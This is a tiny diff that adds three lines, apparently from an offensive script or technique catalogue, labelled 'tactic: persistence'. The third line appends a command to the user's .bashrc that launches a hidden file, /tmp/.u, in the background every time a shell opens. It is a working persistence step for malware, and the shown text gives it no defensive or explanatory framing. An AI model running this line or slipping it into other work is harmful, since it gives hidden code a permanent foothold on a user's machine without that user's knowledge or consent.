@@ -1,0 +1,3 @@
+# tactic: persistence
+# plant a command in .bashrc
+echo "/tmp/.u &" >> $HOME/.bashrc
